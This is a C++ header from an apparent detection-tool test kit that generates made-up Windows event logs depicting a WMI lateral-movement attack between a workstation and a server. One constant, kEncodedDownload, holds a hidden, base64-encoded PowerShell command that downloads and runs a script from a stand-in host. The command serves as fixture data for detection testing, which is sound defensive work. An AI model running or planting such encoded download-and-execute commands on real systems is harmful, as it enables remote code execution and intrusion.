// SPDX-License-Identifier: Apache-2.0
//
// The attack that examples/ shows, told with the event builder: examples/README.md tells it in
// words and lists what must be found in it.
//
//   for (const ExampleFile& f : example_files()) save(f.name, f.bytes);
//
// Same bytes on every call and machine. Names, addresses and times are made up (RFC 2606, RFC
// 5737).
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "tests/evtx_writer.h"
#include "tests/windows_events.h"

namespace wmiscope::testkit {

struct ExampleFile {
  std::string name;
  std::string bytes;
};

std::vector<ExampleFile> example_files();

// The logs, each in its own function: the workstation from which the attack comes …
ExampleFile workstation_sysmon();
ExampleFile workstation_powershell();
// … and the server that it reaches.
ExampleFile server_sysmon();
ExampleFile server_security();
ExampleFile server_wmi_activity();

// One log of one host on the day of the story, 3 November 2026.
class ExampleLog {
 public:
  ExampleLog(std::string file, std::string computer, std::uint64_t first_record_id);

  // Adds what happened at "09:12:04.1120000".
  void add(std::string_view clock, EventBuilder event);
  ExampleFile write();

 private:
  std::string file_;
  std::string computer_;
  EvtxWriter writer_;
};

// The time of the day as a full time.
std::string on_the_day(std::string_view clock);

// What the attacker runs on the server over `wmic /node:`: a download, encoded.
inline constexpr std::string_view kEncodedDownload =
    "powershell -nop -w hidden -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBu"
    "AGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZgBpAGwAZQBzAC4AZQB4AGEAbQBwAGwAZQAuAG8A"
    "cgBnAC8AYQAuAHAAcwAxACcAKQA=";

}  // namespace wmiscope::testkit
